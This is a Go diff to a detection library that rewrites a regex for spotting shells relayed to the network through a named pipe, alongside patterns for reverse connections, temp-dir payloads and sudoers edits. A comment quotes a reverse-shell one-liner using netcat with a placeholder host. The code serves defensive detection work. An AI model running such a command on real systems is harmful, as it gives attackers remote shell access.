@@ -54,8 +54,7 @@ var cmdPatterns = []cmdPattern{
 	// output feeds the shell and the shell's output goes back (mkfifo f;
 	// cat f | sh -i 2>&1 | nc HOST PORT > f). No socket reaches the shell's
 	// stdio, so the ReverseShell detector cannot see it.
-	pat(tExecution, 8, "shell relayed to the network through a named pipe",
-		`(mkfifo|mknod\s+\S+\s+p)\s.*\b((ba|da|z|k|a)?sh\b[^|]*\|\s*(\S*busybox\s+)?\S*\b(nc|ncat|netcat|socat|telnet|openssl)\b|(nc|ncat|netcat|socat|telnet|openssl)\b[^|]*\|\s*(\S*busybox\s+)?\S*\b(ba|da|z|k|a)?sh\b)`),
+	pat(tExecution, 8, "shell relayed to the network through a named pipe", relayPattern),
 	pat(tExecution, 0, "scripted reverse connection", `(python[0-9.]*|perl|ruby|php)\s+-\S*[ce]\s.*socket.*(subprocess|pty|exec|dup2|spawn)`),
 	pat(tExecution, 0, "payload made executable and run from a temp dir", `chmod\s+(\+x|[0-7]*[157][0-7]{2})\s+/(tmp|dev/shm|var/tmp)/\S+\s*(&&|;)\s*/(tmp|dev/shm|var/tmp)/`),
 	// Discovery.
@@ -72,6 +71,18 @@ var cmdPatterns = []cmdPattern{
 	pat(tPrivesc, 0, "user added to an admin group", `usermod\s+.*-a?G\s*\S*(sudo|wheel|docker|root|admin)`),
 	pat(tPrivesc, 0, "sudoers edited by command", `>>?\s*/etc/sudoers`),
 }
+
+// relayPattern: a named pipe, then a shell piped to a network tool or the
+// reverse. Either side may come through wrappers (busybox, toybox, env,
+// timeout 9, exec, ...); a shell is a word of its own ("backup.sh" is not).
+var relayPattern = func() string {
+	wrap := `((\S*/)?(busybox|busybox-static|toybox|env|timeout|stdbuf|nohup|exec|setsid|nice)(\s+-\S+(\s+[A-Z0-9]+)?)*(\s+[0-9.]+[smhd]?)?\s+)*`
+	shell := `(\S*/)?((ba|da|z|k|a)?sh|hush)\b`
+	net := `(\S*/)?(nc|ncat|netcat|socat|telnet|openssl)\b`
+	return `(mkfifo|mknod\s+\S+\s+p)\s.*(^|[\s/])(` +
+		`((ba|da|z|k|a)?sh|hush)\b[^|]*\|\s*` + wrap + net + `|` +
+		`(nc|ncat|netcat|socat|telnet|openssl)\b[^|]*\|\s*` + wrap + shell + `)`
+}()
 
 func commands() Detector {
 	types := []string{tDefense, tDiscovery, tExecution, tPersist, tPrivesc}
